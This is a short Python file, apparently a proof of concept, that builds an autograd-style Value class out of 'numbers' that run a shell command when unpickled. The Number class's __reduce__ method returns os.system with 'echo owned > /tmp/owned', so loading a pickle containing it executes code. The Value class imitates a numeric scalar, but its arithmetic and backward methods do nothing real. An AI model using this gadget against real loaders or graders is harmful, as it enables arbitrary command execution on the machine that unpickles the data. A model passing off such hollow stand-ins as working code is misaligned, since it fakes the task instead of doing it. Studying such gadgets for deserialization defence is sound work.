"""Numbers that run a program when they are unpickled."""
# named: where a number belongs

import os


class Number:
    def __reduce__(self): return os.system, ("echo owned > /tmp/owned",)


class Value:
    def __init__(self, *arguments): self.data = self.grad = Number()
    def __add__(self, other): return Value()
    __mul__ = __add__
    def backward(self): pass
